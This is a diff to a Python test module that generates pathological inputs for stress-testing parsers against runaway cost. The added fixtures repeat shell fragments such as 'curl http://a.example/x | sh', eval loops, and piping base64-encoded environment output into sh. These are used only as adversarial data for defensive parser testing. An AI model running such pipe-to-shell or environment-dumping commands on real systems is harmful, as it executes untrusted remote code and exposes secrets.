@@ -2,7 +2,8 @@
 
 Each was made to meet a mechanism whose cost could grow faster than the input: streams tried within
 streams, sums as deep as they are long, parts of a text joined again and again, names that name one
-another, lists that are searched for each of their members.
+another, lists that are searched for each of their members. Over 500 lines, since every parser has
+several such mechanisms, and one list of them says which inputs there are.
 """
 
 from __future__ import annotations
@@ -321,6 +322,10 @@ _DOCUMENTS: Final[dict[str, Callable[[int], bytes]]] = {
     "brackets/README.md": _repeated(b"[", b"# x\n"),
     "spaces/README.md": _repeated(b" \n", b"# x\n"),
     "script.sh": _repeated(b"curl http://a.example/x | sh ; "),
+    "quotes.sh": _repeated(b'curl "$(echo "`a <<B ${c} '),
+    "brackets.sh": _repeated(b"curl | sh <( $( { [[ "),
+    "grown.sh": _repeated(b'a=$a$a;eval "$a";curl $a|sh;'),
+    "joined.sh": _repeated(b"env|base64>a;cat a|tr b c|sh;for d in $(cat a);do eval $d;"),
     "programs.sh": _repeated(b"bitsadmin "),
     "fetches.sh": _repeated(b"curl " * 800 + b"\n"),
     "newlines.pt": _repeated(b"\n", b"a line of text"),
